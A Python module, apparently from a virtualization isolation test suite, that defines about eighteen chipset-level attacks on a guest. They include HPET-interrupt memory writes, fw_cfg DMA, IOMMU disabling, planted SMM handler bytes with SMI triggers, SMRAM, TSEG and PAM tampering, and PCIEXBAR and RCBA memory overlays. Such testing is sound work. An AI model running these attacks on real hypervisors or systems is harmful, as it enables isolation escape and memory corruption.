"""Attacks through the chipset: windows laid over memory, SMI, A20, devices that no IOMMU covers, sleep."""
from attack import Attack, memory_changes
from by_device import IOMMU, MARK, TRANSLATED, edu_fetch, edu_store
from victim import Gone, config_write_acts, line

HOST_BRIDGE, LPC = 0x0000, 0x00F8
HPET = 0xFED00000
SMBASE_CODE = 0x38000
DEFAULTS = {"smm": True}


def hpet_message(victim):
    """Timer 2 sends its interrupt as a memory write of our choice."""
    target = victim.target()

    def act():
        now = victim.ring0("mmio", HPET + 0xF0, 4)
        victim.acts(("mmiow", HPET + 0x140, 4, 0), ("mmiow", HPET + 0x150, 4, 0x4B4B4B4B),
                    ("mmiow", HPET + 0x154, 4, target), ("mmiow", HPET + 0x140, 4, 0x4104),
                    ("mmiow", HPET + 0x10, 4, 1), ("mmiow", HPET + 0x148, 4, (now + 50000000) & 0xFFFFFFFF))
        victim.shell("sleep 2")

    return memory_changes(victim, target, act)


def fw_cfg_acts(page):
    """Starts the transfer that the structure at `page` describes."""
    def swapped(value):
        return int.from_bytes(value.to_bytes(4, "big"), "little")
    return ("out", 0x514, 4, swapped(page >> 32)), ("out", 0x518, 4, swapped(page & 0xFFFFFFFF))


def fw_cfg_request(control, size, address):
    return control.to_bytes(4, "big") + size.to_bytes(4, "big") + address.to_bytes(8, "big")


def fw_cfg_dma(victim):
    """The configuration device copies its signature to an address of our choice."""
    target, page = victim.target(), victim.alloc()
    victim.write_bytes(page, fw_cfg_request(0x0000000A, 4, target))
    return memory_changes(victim, target, lambda: victim.acts(*fw_cfg_acts(page)))


def fw_cfg_iommu(victim):
    """It also writes zeros to the IOMMU's control register; then a device writes memory."""
    target, scratch, value = victim.target(), victim.alloc(), victim.alloc()
    first, second = victim.alloc(), victim.alloc()
    victim.ring0("write", value, 8, MARK)
    victim.write_bytes(first, fw_cfg_request(0x0000000A, 4, scratch))
    victim.write_bytes(second, fw_cfg_request(0x00000002, 8, IOMMU + 0x18))  # past the item's end: zeros
    # Without its IOMMU Linux loses its interrupts: everything in one line, which it has read by then.
    return memory_changes(victim, target, lambda: victim.fire("; ".join(
        [line(*fw_cfg_acts(first), *fw_cfg_acts(second)), edu_fetch(victim, value, 8), edu_store(victim, target, 8)])))


def vapic(victim):
    """Port 7Eh: QEMU's helper adds a number of our choice to memory of our choice."""
    target = victim.target()
    return memory_changes(victim, target, lambda: victim.fire(f"vapic {target:x} 1234567"))


def _a20_off(victim, acts):
    victim.fire(line(*acts))
    return victim.wait_for(lambda: victim.registers(0)["A20"] == 0, 5)


def a20_port(victim):
    return _a20_off(victim, [("out", 0x92, 1, 0)])


def a20_keyboard(victim):
    return _a20_off(victim, [("out", 0x64, 1, 0xD1), ("out", 0x60, 1, 0xDD)])


def plant_smi_handler(victim, target):
    """Code for system management mode, where the processor looks for it unless firmware moved it."""
    code = b"\x66\x67\xc7\x05" + target.to_bytes(4, "little") + b"SMM!" + b"\x0f\xaa"
    victim.write_bytes(SMBASE_CODE, code)


def smi_port(victim):
    """An SMI by port B2h into memory that the service domain wrote."""
    target = victim.target()
    plant_smi_handler(victim, target)
    power = victim.config_read(LPC, 0x40, 4)
    power = power & 0xFF80 if power else 0x600
    return memory_changes(victim, target,
                          lambda: victim.fire(line(("out", power + 0x30, 4, 0x21), ("out", 0xB2, 1, 0x42))))


def smi_by_icr(victim):
    target = victim.target()
    plant_smi_handler(victim, target)
    return memory_changes(victim, target, lambda: victim.fire(line(("mmiow", 0xFEE00300, 4, 0xC4200))))


def _register_changes(victim, function, offset, width, new):
    before = victim.config_read(function, offset, width)
    victim.config_write(function, offset, width, new(before or 0))
    return before is not None and victim.config_read(function, offset, width) != before


def smram_open(victim):
    return _register_changes(victim, HOST_BRIDGE, 0x9D, 1, lambda old: old | 0x40)


def tseg(victim):
    return _register_changes(victim, HOST_BRIDGE, 0x9E, 1, lambda old: old ^ 0x07)


def pam(victim):
    return _register_changes(victim, HOST_BRIDGE, 0x92, 1, lambda old: old ^ 0x11)


def power_ports(victim):
    """The power and SMI ports moved elsewhere, away from whatever filter watches them."""
    return _register_changes(victim, LPC, 0x40, 4, lambda old: 0xF01)


def memory_mapped_path(victim):
    """The same registers by memory-mapped configuration space."""
    window = (victim.config_read(HOST_BRIDGE, 0x60, 4) or 0xB0000001) & 0xF0000000
    before = victim.config_read(HOST_BRIDGE, 0x93, 1)
    try:
        victim.shell(line(("mmiow", window + 0x93, 1, (before or 0) ^ 0x11)))
    except Gone:
        return False
    return victim.config_read(HOST_BRIDGE, 0x93, 1) != before


def window_over_memory(victim):
    """PCIEXBAR: 256 MiB of configuration space laid over the target."""
    target = victim.target()
    acts = config_write_acts(HOST_BRIDGE, 0x60, 4, (target & 0xF0000000) | 1)
    return memory_changes(victim, target, lambda: victim.fire(line(*acts)))


def chipset_block_over_memory(victim):
    """RCBA: 16 KiB of chipset registers that behave as memory, laid over the target."""
    target = victim.target(2)
    acts = config_write_acts(LPC, 0xF0, 4, (target & 0xFFFFC000) | 1)
    return memory_changes(victim, target, lambda: victim.fire(line(*acts)))


def _sleep(victim, kind):
    power = victim.config_read(LPC, 0x40, 4)
    power = power & 0xFF80 if power else 0x600
    victim.fire(line(("out", power + 4, 2, kind << 10 | 1 << 13)))


def sleep_s3(victim):
    _sleep(victim, 1)
    return victim.wait_for(lambda: victim.status() == "suspended", 5)


def sleep_s4(victim):
    _sleep(victim, 2)
    return victim.wait_for(lambda: victim.status() in ("shutdown", "paused"), 5)


ATTACKS = [
    Attack("hpet-message", "chipset", hpet_message),
    Attack("fw-cfg-dma", "chipset", fw_cfg_dma),
    Attack("fw-cfg-iommu", "chipset", fw_cfg_iommu, destructive=True, more=TRANSLATED),
    Attack("port-7e", "chipset", vapic, destructive=True),
    Attack("a20-port", "chipset", a20_port, destructive=True),
    Attack("a20-keyboard", "chipset", a20_keyboard, destructive=True),
    Attack("smi-port", "chipset", smi_port, destructive=True, pc=DEFAULTS),
    Attack("smi-port-off", "chipset", smi_port, destructive=True),
    Attack("smi-icr", "processor", smi_by_icr, destructive=True, pc=DEFAULTS),
    Attack("smram-open", "chipset", smram_open, destructive=True, pc=DEFAULTS),
    Attack("tseg", "chipset", tseg, destructive=True, pc=DEFAULTS),
    Attack("pam", "chipset", pam),
    Attack("power-ports", "chipset", power_ports, destructive=True),
    Attack("memory-mapped-path", "chipset", memory_mapped_path),
    Attack("pciexbar", "chipset", window_over_memory, destructive=True),
    Attack("rcba", "chipset", chipset_block_over_memory, destructive=True),
    Attack("sleep-s3", "chipset", sleep_s3, destructive=True),
    Attack("sleep-s4", "chipset", sleep_s4, destructive=True),
]
